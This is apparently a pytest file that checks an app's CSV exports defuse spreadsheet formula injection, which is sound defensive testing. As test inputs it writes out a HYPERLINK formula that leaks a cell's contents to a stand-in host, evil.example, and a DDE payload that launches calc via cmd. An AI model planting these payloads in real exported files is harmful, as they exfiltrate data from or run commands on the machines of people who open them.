"""CSV injection: every CSV the app offers (Explore's and Compare's "Layers as CSV", Your sentences' "Table as
CSV") neutralises a text cell that a spreadsheet would run as a formula; numbers stay numbers."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pandas as pd
import pytest

from eeviz.checkpoint import save_checkpoint
from eeviz.config import ModelConfig
from eeviz.csv_safe import csv_text, safe_cell, safe_frame
from eeviz.model import build_model

ROOT = Path(__file__).resolve().parent.parent
EVIL = '=HYPERLINK("http://evil.example/?leak="&A3,"Click for details")'


@pytest.mark.parametrize(
    "value,expected",
    [(EVIL, "'" + EVIL), ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
     ("a fine film", "a fine film"), (" =1", " =1"), ("", ""), ("'=1", "'=1"),
     ("-0.512", "-0.512"), ("+3", "+3"), ("-1e-05", "-1e-05"), ("-.5", "-.5"),  # numbers held as text
     (-2.5, -2.5), (3, 3), (None, None), (True, True)],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_safe_frame_quotes_text_cells_and_names_but_not_numbers():
    frame = pd.DataFrame({"sentence": ["=1+2", "fine", "@x"], "score": [-1.5, 2.0, -3.0], "layer": [1, -2, 3],
                          "right": [True, False, True], "=name": ["-0.5", "-a", None]})
    safe = safe_frame(frame)
    assert safe["sentence"].tolist() == ["'=1+2", "fine", "'@x"]
    assert list(safe.columns) == ["sentence", "score", "layer", "right", "'=name"]
    assert safe["'=name"].tolist()[:2] == ["-0.5", "'-a"] and pd.isna(safe["'=name"].tolist()[2])
    assert frame["sentence"].tolist() == ["=1+2", "fine", "@x"]  # the frame itself is untouched
    back = pd.read_csv(io.StringIO(csv_text(frame)))
    assert back["score"].tolist() == [-1.5, 2.0, -3.0] and back["layer"].tolist() == [1, -2, 3]
    assert back["sentence"].tolist() == ["'=1+2", "fine", "'@x"]


def test_no_csv_is_written_raw():
    """Every CSV the app offers goes through ``csv_text`` (a ``to_csv`` call in app code bypasses it)."""
    sources = [ROOT / "app.py", *(ROOT / "pages").glob("*.py"), *(ROOT / "eeviz" / "app").glob("*.py")]
    raw = [str(p.relative_to(ROOT)) for p in sources if re.search(r"\.to_csv\(", p.read_text())]
    assert raw == []


# ----------------------------------------------------------------------------------------- the app's buttons
@pytest.fixture(scope="module")
def csv_checkpoints(tiny_bert, tmp_path_factory):
    root = tmp_path_factory.mktemp("csv_checkpoints")
    for name, method in (("deebert-tiny", "deebert"), ("pabee-tiny", "pabee")):
        cfg = ModelConfig(backbone=tiny_bert, method=method, task="toy", labels=["neg", "pos"], max_length=32)
        save_checkpoint(build_model(cfg), root / name)
    return root


@pytest.fixture
def downloads(csv_checkpoints, monkeypatch):
    """What each download button would hand the browser, by label (a callable's result when it is one)."""
    import streamlit
    from streamlit.delta_generator import DeltaGenerator

    monkeypatch.setenv("EEVIZ_CHECKPOINTS", str(csv_checkpoints))
    seen: dict[str, list[str]] = {}

    def remember(label, data):
        seen.setdefault(label, []).append(data() if callable(data) else data)

    real_method, real_function = DeltaGenerator.download_button, streamlit.download_button

    def method(self, label, data, *args, **kwargs):
        remember(label, data)
        return real_method(self, label, data, *args, **kwargs)

    def function(label, data, *args, **kwargs):
        remember(label, data)
        return real_function(label, data, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", method)
    monkeypatch.setattr(streamlit, "download_button", function)
    return seen


def first_column(csv: str) -> list[str]:
    return pd.read_csv(io.StringIO(csv), dtype=str, keep_default_na=False)["sentence"].tolist()


def test_explore_and_compare_csvs_of_a_shared_link_are_safe(downloads):
    from apptest import run_app

    run_app(ckpt="deebert-tiny", text=EVIL)
    run_app("pages/1_Compare.py", ckpts="deebert-tiny,pabee-tiny", text=EVIL)
    csvs = downloads["Layers as CSV"]
    assert len(csvs) == 2
    for csv in csvs:
        cells = first_column(csv)
        assert cells and set(cells) == {"'" + EVIL}
        assert not re.search(r"^=|,=", csv, re.M)  # no cell anywhere starts a formula


def test_your_sentences_csv_is_safe(downloads):
    from apptest import run_pasted

    at = run_pasted("=1+2\n@SUM(A1)\na fine film\n-cmd")
    assert at.dataframe[0].value["sentence"].tolist() == ["=1+2", "@SUM(A1)", "a fine film", "-cmd"]  # shown as is
    csv = downloads["Table as CSV"][-1]
    assert first_column(csv) == ["'=1+2", "'@SUM(A1)", "a fine film", "'-cmd"]
    table = pd.read_csv(io.StringIO(csv))
    exits = [c for c in table.columns if c.endswith("exit layer")]
    assert exits and all(pd.api.types.is_integer_dtype(table[c]) for c in exits)  # numbers stay numbers
